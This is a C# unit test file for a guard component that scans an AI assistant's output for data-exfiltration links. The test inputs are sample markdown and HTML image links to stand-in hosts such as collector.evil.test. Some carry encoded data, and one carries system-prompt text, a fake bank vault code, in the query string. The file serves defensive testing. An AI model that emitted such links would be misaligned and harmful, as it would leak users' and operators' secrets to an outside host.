using LlmSecOps.Core.Policy;
using LlmSecOps.Core.Scanning;
using LlmSecOps.Guard.Scanners.Exfiltration;

namespace LlmSecOps.Guard.Tests.Scanners;

public sealed class ExfiltrationLinkScannerTests
{
    private const string SystemPrompt = "You are the billing assistant for Quillfeather Bank. The vault code for branch seven is kept in the ledger.";
    private static readonly ExfiltrationLinkScanner Scanner = new();
    private static readonly GuardPolicy Policy = GuardPolicy.Default with { AllowedLinkHosts = ["docs.example.com", "*.trusted.test"] };

    private static Task<IReadOnlyList<Finding>> ScanAsync(string text) =>
        ScannerHarness.ScanAsync(Scanner, text, Direction.Output, Policy, SystemPrompt);

    [Fact]
    public async Task MarkdownImage_ToUnknownHostWithEncodedQuery_IsHighScore()
    {
        var data = Fake.B64Url(48);
        var url = $"https://collector.evil.test/pixel.png?d={data}";
        var text = $"Here is your summary.\n\n![loading]({url})\n";

        var f = Assert.Single(await ScanAsync(text));

        Assert.Equal("exfiltration_link.markdown_image", f.Rule);
        Assert.Equal(url, ScannerHarness.SpanText(text, f));
        Assert.True(f.Score >= 0.9, $"{f.Score}");
        Assert.Equal(Severity.High, f.Severity);
        Assert.DoesNotContain(data, f.Evidence!, StringComparison.Ordinal);
        Assert.Contains("collector.evil.test", f.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task MarkdownImage_CarryingSystemPromptText_IsHighScore()
    {
        var text = "![x](https://img.evil.test/a.gif?q=the+vault+code+for+branch+seven)";

        var f = Assert.Single(await ScanAsync(text));

        Assert.True(f.Score >= 0.9, $"{f.Score} {f.Message}");
        Assert.Contains("system prompt", f.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Evidence_ShowsSchemeAndHostOnly()
    {
        var password = "pw" + Fake.Alnum(12);
        var f = Assert.Single(await ScanAsync($"![a](https://bob:{password}@evil.test:8443/p.png?d={Fake.B64Url(48)})"));

        Assert.Equal("https://evil.test/\u2026", f.Evidence);
    }

    [Fact]
    public async Task HtmlImage_WithDataInPath_IsHighScore()
    {
        var text = $"<p>done</p><img width=\"1\" src=\"https://evil.test/t/{Fake.B64Url(40)}/p.png\">";

        var f = Assert.Single(await ScanAsync(text));

        Assert.Equal("exfiltration_link.html_image", f.Rule);
        Assert.True(f.Score >= 0.8, $"{f.Score}");
    }

    [Fact]
    public async Task ProtocolRelativeImage_IsJudgedToo()
    {
        var f = Assert.Single(await ScanAsync($"![a](//evil.test/x?k={Fake.Alnum(32)})"));

        Assert.Equal("exfiltration_link.markdown_image", f.Rule);
        Assert.True(f.Score >= 0.8);
    }

    [Fact]
    public async Task ReferenceStyleImage_IsAnImage()
    {
        var text = $"![chart][c1]\n\n[c1]: https://evil.test/c.png?z={Fake.Alnum(40)}";

        var f = Assert.Single(await ScanAsync(text));

        Assert.Equal("exfiltration_link.markdown_image", f.Rule);
    }

    [Fact]
    public async Task AllowedHostsAndSubdomains_AreNeverReported()
    {
        var data = Fake.B64Url(48);
        var text = $"![a](https://docs.example.com/i.png?d={data}) and ![b](https://cdn.trusted.test/x.png?d={data}) and [c](https://trusted.test/?d={data})";

        Assert.Empty(await ScanAsync(text));
    }

    [Fact]
    public async Task LookalikeOfAllowedHost_IsNotAllowed()
    {
        var text = $"![a](https://docs.example.com.evil.test/i.png?d={Fake.B64Url(48)}) ![b](https://evildocs.example.com/i.png?d={Fake.B64Url(48)})";

        Assert.Equal(2, (await ScanAsync(text)).Count);
    }

    [Fact]
    public async Task PlainLinkToANormalPage_IsNotReported()
    {
        Assert.Empty(await ScanAsync("Read more at [the guide](https://en.wikipedia.org/wiki/Paris) or https://www.python.org/downloads/."));
    }

    [Fact]
    public async Task SearchLinkRepeatingTheQuestion_StaysUnderThreshold()
    {
        const string text = "The capital of France is Paris. [Search](https://www.google.com/search?q=capital+of+france)";

        var findings = await ScanAsync(text);

        Assert.DoesNotContain(findings, f => f.Score >= 0.5);
    }

    [Fact]
    public async Task LinkWithEncodedToken_IsReportedOverThreshold()
    {
        var f = Assert.Single(await ScanAsync($"[click to verify](https://verify.evil.test/cb?session={Fake.B64Url(40)})"));

        Assert.Equal("exfiltration_link.link", f.Rule);
        Assert.True(f.Score is >= 0.5 and < 0.9, $"{f.Score}");
    }

    [Fact]
    public async Task ImageWithoutData_IsLowScore()
    {
        var f = Assert.Single(await ScanAsync("![logo](https://cdn.unknown.test/logo.png)"));

        Assert.True(f.Score < 0.5, $"{f.Score}");
    }

    [Theory]
    [InlineData("![x](https://evil.test/p.png?d=")]
    [InlineData("![x](https://evil.te")]
    [InlineData("![x](https://")]
    [InlineData("<img src=\"https://evil.test/")]
    [InlineData("[a](//")]
    [InlineData("https://[::1")]
    [InlineData("https://user@")]
    public async Task CutOffMarkup_DoesNotThrowAndIsNotHighScore(string prefix)
    {
        var findings = await ScanAsync(prefix);

        Assert.DoesNotContain(findings, f => f.Score >= 0.5);
    }

    [Fact]
    public async Task GrowingStream_BecomesHighScoreOnceTheDataArrives()
    {
        var full = $"Summary done. ![p](https://evil.test/p.png?d={Fake.B64Url(48)}) Bye.";
        var maxScore = 0.0;
        var firstHigh = -1;
        for (var n = 1; n <= full.Length; n++)
        {
            var findings = await ScanAsync(full[..n]);
            var score = findings.Count == 0 ? 0 : findings.Max(f => f.Score);
            if (score >= 0.8 && firstHigh < 0)
            {
                firstHigh = n;
            }

            maxScore = Math.Max(maxScore, score);
        }

        Assert.True(maxScore >= 0.9);
        Assert.InRange(firstHigh, full.IndexOf("?d=", StringComparison.Ordinal), full.IndexOf(')', StringComparison.Ordinal));
    }

    [Fact]
    public async Task Engine_BlocksAnExfiltrationImageByDefault()
    {
        var engine = GuardEngine.Create();
        var result = await engine.ScanAsync(new ScanRequest { Direction = Direction.Output, Text = $"![a](https://evil.test/p.png?d={Fake.B64Url(48)})" })
            .AsTask().WaitAsync(ScannerHarness.Timeout);

        Assert.Equal(Verdict.Block, result.Verdict);
        Assert.Contains(FindingCategories.ExfiltrationLink, result.BlockingCategories);
    }

    [Theory]
    [InlineData("a ![x](https://h.test/i.png) b", "MarkdownImage")]
    [InlineData("a [x](https://h.test/) b", "Link")]
    [InlineData("a [x [nested]](https://h.test/) b", "Link")]
    [InlineData("a <img alt=x src='https://h.test/i.png'> b", "HtmlImage")]
    [InlineData("a <iframe src=https://h.test/> b", "HtmlImage")]
    [InlineData("a <a href=\"https://h.test/\">x</a>", "Link")]
    [InlineData("see https://h.test/ now", "Bare")]
    public void KindOf_RecognisesTheEmbedding(string text, string kind)
    {
        Assert.Equal(kind, ExfiltrationLinkScanner.KindOf(text, text.IndexOf("https", StringComparison.Ordinal)).ToString());
    }
}
